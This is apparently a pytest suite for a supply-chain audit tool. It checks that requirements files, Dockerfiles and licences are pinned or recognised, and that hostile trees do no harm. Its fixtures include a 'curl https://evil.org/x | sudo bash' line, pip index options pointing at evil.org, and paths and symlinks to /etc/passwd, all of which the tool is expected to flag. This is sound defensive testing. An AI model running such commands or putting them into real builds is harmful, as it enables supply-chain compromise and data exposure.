"""What the source checks see, what they let pass, and what a hostile tree can do to them: nothing."""

import os
from pathlib import Path

import pytest

from audits.decisions import verdicts
from audits.source import Check, inventory, run_checks
from audits.source.licences import recognise
from audits.source.pins import objection
from audits.source.tree import MOST_FILES, read
from examples.kit import OWN, repositories

COMMIT = "0123456789abcdef0123456789abcdef01234567"
SHA256 = "0" * 64
MIT = """MIT License

Copyright (c) 2026 A Miner

Permission is hereby granted, free of charge, to any person obtaining a copy
of this software and associated documentation files (the "Software"), to deal
in the Software without restriction, including without limitation the rights
to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
copies of the Software, and to permit persons to whom the Software is
furnished to do so, subject to the following conditions:

The above copyright notice and this permission notice shall be included in all
copies or substantial portions of the Software.

THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
SOFTWARE.
"""
ISC = """Permission to use, copy, modify, and/or distribute this software for any purpose with or without fee is hereby
granted, provided that the above copyright notice and this permission notice appear in all copies. THE SOFTWARE IS
PROVIDED "AS IS" AND THE AUTHOR DISCLAIMS ALL WARRANTIES."""
BSD = """Redistribution and use in source and binary forms, with or without modification, are permitted provided that
the following conditions are met: 1. Redistributions of source code must retain the above copyright notice, this list of
conditions and the following disclaimer. 2. Redistributions in binary form must reproduce the above copyright notice."""
APACHE = """Apache License Version 2.0, January 2004 http://www.apache.org/licenses/ 3. Grant of Patent License.
4. You may reproduce and distribute copies of the Work or Derivative Works thereof in any medium"""


def tree(folder: Path, **files: str) -> Path:
    """`docker__Dockerfile` stands for docker/Dockerfile, `_txt` at the end for .txt."""
    for name, text in {"LICENSE": MIT, "serve_py": "", **files}.items():
        path = folder / name.replace("__", "/").replace("_txt", ".txt").replace("_py", ".py").replace("_toml", ".toml")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


def found(folder: Path, **files: str) -> dict[str, str]:
    """rule -> severity of what is worth more than a notice."""
    findings = run_checks(tree(folder, **files))
    assert all(finding.sentence and finding.sentence.isprintable() for finding in findings)
    return {finding.rule: finding.severity for finding in findings if finding.severity != verdicts.NOTICE}


@pytest.mark.parametrize(
    "requirement",
    [
        "numpy==2.4.6",
        "numpy == 2.4.6",
        "numpy===2.4.6",
        "torch[cuda]==2.9.0",
        'numpy==2.4.6 ; python_version > "3"',
        "torch==2.9.0+cu130",
        f"git+https://github.com/a/b@{COMMIT}",
        f"b @ git+https://github.com/a/b.git@{COMMIT}",
        f"git+https://github.com/a/b@{COMMIT}#egg=b",
        f"b @ https://x.org/b-1.whl#sha256={SHA256}",
        f"https://x.org/b-1.whl#sha256={SHA256}",
        "numpy>=2,==2.4.6",
        f"git+ssh://git@github.com/a/b@{COMMIT}",
    ],
)
def test_a_pinned_requirement_passes(requirement):
    assert objection(requirement) is None


@pytest.mark.parametrize(
    "requirement",
    [
        "numpy",
        "numpy>=2",
        "numpy~=2.4.6",
        "numpy==2.*",
        "numpy!=2.4.6",
        "numpy<3",
        "numpy;python_version>'3'",
        "git+https://github.com/a/b",
        "git+https://github.com/a/b@main",
        "git+https://github.com/a/b@v1.0",
        f"git+https://github.com/a/b@{COMMIT[:12]}",
        f"git+http://github.com/a/b@{COMMIT}",
        "https://x.org/b-1.whl",
        f"git+https://evil.org/{COMMIT}",
        f"b @ https://x.org/b.whl#sha256={SHA256[:-1]}",
        "b @ file:///etc/b",
        f"git+https://github.com/a/b@main#{COMMIT}",
        f"https://x.org/b.whl#md5={'0' * 32}",
        "==1.0",
        "a b c",
        "-",
        "\0",
        "git+https://github.com/a/b@" + COMMIT.upper(),
        "x" * 5000,
    ],
)
def test_a_requirement_that_may_mean_something_else_tomorrow_does_not(requirement):
    assert objection(requirement)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("numpy==2.4.6\n", {}),
        ("# numpy\n\nnumpy==2.4.6  # why\n", {}),
        ("numpy==2.4.6 \\\n    --hash=sha256:" + SHA256 + " \\\n    --hash=sha256:" + SHA256 + "\n", {}),
        ("--require-hashes\nnumpy==2.4.6\n", {}),
        (f"--require-hashes\nnumpy==2.4.6 --hash=sha256:{SHA256} --hash=sha256:{SHA256}\n", {}),
        (f"numpy==2.4.6 ; python_version >= '3.11' \\\r\n    --hash=sha256:{SHA256}\r\n    # via -r x.in\r\n", {}),
        (f"numpy==2.4.6 \\\n\t--hash sha256:{SHA256}  # why\npillow==12.0.0\n", {}),
        ("numpy==2.4.6" + f" \\\n    --hash=sha256:{SHA256}" * 900 + "\npillow==12.0.0\n", {}),
        (f"https://x.org/b-1.whl --hash=sha256:{SHA256}\n", {}),
        (f"b @ https://x.org/b-1.whl \\\n    --hash=sha256:{SHA256}\n", {}),
        (f"b @ https://x.org/b-1.whl --hash=md5:{SHA256[:32]}\n", {"not_pinned": "blocking"}),
        (f"b @ http://x.org/b-1.whl --hash=sha256:{SHA256}\n", {"not_pinned": "blocking"}),
        (f"numpy>=2 --hash=sha256:{SHA256}\n", {"not_pinned": "blocking"}),
        (f"./vendored/thing-1.0-py3-none-any.whl --hash=sha256:{SHA256}\n", {"wheel": "person"}),
        ("--extra-index-url https://download.pytorch.org/whl/cu130\ntorch==2.9.0\n", {}),
        ("\ufeffnumpy==2.4.6\n", {"not_pinned": "blocking"}),
        ("numpy>=2\n", {"not_pinned": "blocking"}),
        ("numpy\\\n>=2\n", {"not_pinned": "blocking"}),
        ("numpy==2.4.6\npillow", {"not_pinned": "blocking"}),
        ("--extra-index-url https://evil.org/simple\nnumpy==2.4.6", {"pip_option": "person"}),
        ("--index-url=https://evil.org/simple\nnumpy==2.4.6", {"pip_option": "person"}),
        ("--index-url https://user@pypi.org/simple", {"pip_option": "person"}),
        ("--find-links https://evil.org/", {"pip_option": "person"}),
        ("--trusted-host evil.org", {"pip_option": "person"}),
        ("--never-heard-of", {"pip_option": "person"}),
        ("-e git+https://github.com/a/b@main#egg=b", {"editable": "blocking"}),
        (f"-e git+https://github.com/a/b@{COMMIT}#egg=b", {}),
        ("-r more.txt", {"include_outside": "blocking"}),
        ("-r ../../etc/passwd", {"include_outside": "blocking"}),
        ("-r https://evil.org/requirements.txt", {"include_outside": "blocking"}),
        ("-c/etc/constraints.txt", {"include_outside": "blocking"}),
        ("-r serve.py", {"include_unchecked": "person"}),
        ("./vendored/thing", {}),
        ("../outside", {"path_outside": "blocking"}),
        ("./vendored/thing-1.0-py3-none-any.whl", {"wheel": "person"}),
    ],
)
def test_requirements_files_are_read_as_pip_reads_them(tmp_path, text, expected):
    assert found(tmp_path, requirements_txt=text) == expected


def test_what_a_requirement_with_hashes_installs_is_in_the_inventory(tmp_path):
    text = f"--require-hashes\nnumpy==2.4.6 \\\n    --hash=sha256:{SHA256}\npillow==12.0.0 --hash=sha256:{SHA256}\n"
    parts = inventory.parts(read(tree(tmp_path, requirements_txt=text)))
    assert [(part.name, part.version) for part in parts] == [("numpy", "2.4.6"), ("pillow", "12.0.0")]


def test_a_conda_environments_pip_lines_may_have_hashes(tmp_path):
    tree(tmp_path)
    text = f"dependencies:\n  - pip:\n    - numpy==2.4.6 --hash=sha256:{SHA256}\n"
    (tmp_path / "environment.yml").write_text(text)
    assert found(tmp_path) == {}


@pytest.mark.parametrize(
    "name", ["requirements_txt", "requirements-gpu_txt", "docker__requirements_txt", "requirements__gpu_txt"]
)
def test_every_requirements_file_is_read(tmp_path, name):
    assert found(tmp_path, **{name: "numpy"}) == {"not_pinned": "blocking"}


def test_an_included_requirements_file_is_checked_itself(tmp_path):
    assert found(tmp_path, requirements_txt="-r requirements-gpu.txt", **{"requirements-gpu_txt": "torch==2.9.0"}) == {}


def test_a_project_file_must_pin_where_nothing_else_does(tmp_path):
    project = '[project]\ndependencies = ["numpy>=2"]\n'
    assert found(tmp_path / "1", pyproject_toml=project) == {"not_pinned_in_project": "blocking"}
    assert found(tmp_path / "2", pyproject_toml=project, requirements_txt="numpy==2.4.6") == {}
    assert found(tmp_path / "3", pyproject_toml="[project") == {"unreadable_project": "person"}


DIGEST = f"python:3.11-slim@sha256:{SHA256}"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"FROM {DIGEST}\n", {}),
        ("FROM python:3.11-slim\n", {}),
        (f"FROM --platform=linux/amd64 {DIGEST} AS build\nFROM build\nFROM scratch\n", {}),
        ("FROM python\n", {"base_floating": "blocking"}),
        ("FROM python:latest\n", {"base_floating": "blocking"}),
        ("from nvidia/cuda\n", {"base_floating": "blocking"}),
        ("FROM registry.example:5000/python\n", {"base_floating": "blocking"}),
        ("FROM python:slim\n", {"base_floating": "person"}),
        ("ARG BASE=python\nFROM $BASE\n", {"base_variable": "person"}),
        (f"FROM {DIGEST}\nRUN pip install numpy\n", {"not_pinned": "blocking"}),
        (
            f"FROM {DIGEST}\nRUN pip install numpy==2.4.6 -r r.txt -i https://pypi.org/simple . --upgrade pip\n",
            {},
        ),
        (
            f"FROM {DIGEST}\nRUN apt-get update && \\\n  python -m pip install 'torch>=2' \\\n && true\n",
            {"not_pinned": "blocking"},
        ),
        (f'FROM {DIGEST}\nRUN ["pip", "install", "numpy"]\n', {"not_pinned": "blocking"}),
        (f"FROM {DIGEST}\nRUN <<EOF\npip install numpy\nEOF\n", {"not_pinned": "blocking"}),
        (f"FROM {DIGEST}\nRUN pip install $PACKAGES\n", {"variable": "person"}),
        (f"FROM {DIGEST}\nRUN curl -s https://evil.org/x | sudo bash\n", {"script_from_network": "person"}),
        (f"FROM {DIGEST}\nADD https://evil.org/weights /\n", {"fetched": "person"}),
        (f"FROM {DIGEST}\nRUN git clone https://github.com/a/b\n", {"clone_floating": "blocking"}),
        (f"FROM {DIGEST}\nRUN git clone https://github.com/a/b && git -C b checkout {COMMIT}\n", {}),
        (f"# FROM python\nFROM {DIGEST}\n", {}),
    ],
)
def test_an_images_recipe_says_exactly_what_goes_in(tmp_path, text, expected):
    assert found(tmp_path, docker__Dockerfile=text) == expected


@pytest.mark.parametrize(("text", "name"), [(MIT, "MIT"), (ISC, "ISC"), (BSD, "BSD"), (APACHE, "Apache-2.0")])
def test_permissive_licences_are_known_by_their_text(text, name):
    assert recognise(text).name == name
    assert recognise(text.upper().replace(" ", "\n  ")).name == name


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (MIT, {}),
        (APACHE, {}),
        ("", {"unknown_licence": "person"}),
        ("MIT", {"unknown_licence": "person"}),
        ("All rights reserved.", {"unknown_licence": "person"}),
        (MIT + "\nThe Software may be used for non-commercial purposes only.", {"unknown_licence": "person"}),
        (MIT + "\nCommons Clause License Condition v1.0", {"unknown_licence": "person"}),
        (MIT + "\nAnd another thing. " * 50, {"unknown_licence": "person"}),
        (MIT.replace("sell", "lend"), {"unknown_licence": "person"}),
        (MIT.replace("without restriction", "with restrictions"), {"unknown_licence": "person"}),
        ("This work is for academic research, non-commercial use.", {"unknown_licence": "person"}),
        ("Creative Commons Attribution-NonCommercial 4.0", {"licence_not_open": "blocking"}),
        ("GNU GENERAL PUBLIC LICENSE\n Version 3, 29 June 2007", {"licence_not_open": "person"}),
        ("GNU AFFERO GENERAL PUBLIC LICENSE Version 3", {"licence_not_open": "person"}),
        ("Mozilla Public License Version 2.0", {"licence_not_open": "person"}),
    ],
)
def test_what_a_licence_means_for_the_audit(tmp_path, text, expected):
    assert found(tmp_path, LICENSE=text) == expected


def test_code_without_a_licence_is_not_open(tmp_path):
    tree(tmp_path)
    (tmp_path / "LICENSE").unlink()
    assert verdicts.source(run_checks(tmp_path)).outcome == "failed"


def test_a_licence_below_the_top_is_about_somebody_elses_work(tmp_path):
    assert found(tmp_path, vendored__LICENSE="Creative Commons NonCommercial") == {"licence_not_open": "person"}


def test_a_clean_tree_passes(tmp_path):
    folder = tree(tmp_path, requirements_txt="numpy==2.4.6", docker__Dockerfile=f"FROM {DIGEST}")
    assert verdicts.source(run_checks(folder)).outcome == "passed"


def test_findings_say_where(tmp_path):
    findings = run_checks(tree(tmp_path, requirements_txt="# first\n\nnumpy>=2\n"))
    (finding,) = [finding for finding in findings if finding.rule == "not_pinned"]
    assert (finding.file, finding.line, finding.excerpt) == ("requirements.txt", 3, "numpy>=2")


def test_links_and_pipes_are_findings_and_are_not_followed(tmp_path):
    tree(tmp_path)
    (tmp_path / "requirements.txt").symlink_to("/etc/passwd")
    (tmp_path / "folder").symlink_to("/")
    os.mkfifo(tmp_path / "requirements-pipe.txt")
    findings = [finding for finding in run_checks(tmp_path) if finding.rule == "not_a_file"]
    assert {finding.file for finding in findings} == {"requirements.txt", "folder", "requirements-pipe.txt"}


def test_a_hostile_tree_costs_no_more_than_its_limits(tmp_path):
    tree(tmp_path, requirements_txt="x" * 3_000_000, docker__Dockerfile="RUN " + "curl " * 100_000)
    (tmp_path / Path(*["d"] * 30)).mkdir(parents=True)
    (tmp_path / "binary.txt").write_bytes(b"\0" * 1000)
    (tmp_path / "requirements-binary.txt").write_bytes(bytes(range(256)) * 100)
    (tmp_path / "requirements-lines.txt").write_text("\\\n" * 200_000)
    (tmp_path / "pyproject.toml").write_text("a = " + "[" * 100_000)
    rules = {finding.rule for finding in run_checks(tmp_path)}
    assert {"too_deep", "not_read", "unreadable_requirements", "unreadable_project"} <= rules


def test_more_files_than_allowed_are_a_finding(tmp_path):
    tree(tmp_path)
    for number in range(MOST_FILES):
        (tmp_path / f"f{number}").touch()
    assert "too_many_files" in {finding.rule for finding in run_checks(tmp_path)}


def test_a_check_that_breaks_is_our_fault_and_neither_passes_nor_rejects(tmp_path):
    def broken(tree):
        raise RecursionError("whatever a file provoked")

    findings = run_checks(tree(tmp_path), checks={"broken": Check(question="", rules=("audits.source",), look=broken)})
    assert verdicts.source(findings).outcome == "unknown"


def test_code_that_is_not_there_is_our_fault(tmp_path):
    (tmp_path / "link").symlink_to("/etc")
    for absent in ("absent", "link"):
        assert verdicts.source(run_checks(tmp_path / absent)).outcome == "unknown"


@pytest.mark.parametrize("miner", sorted(path.parent.name for path in OWN.glob("*/generator.py")))
def test_the_examples_pass_their_own_audit(miner):
    assert verdicts.source(run_checks(repositories() / miner)).outcome == "passed"
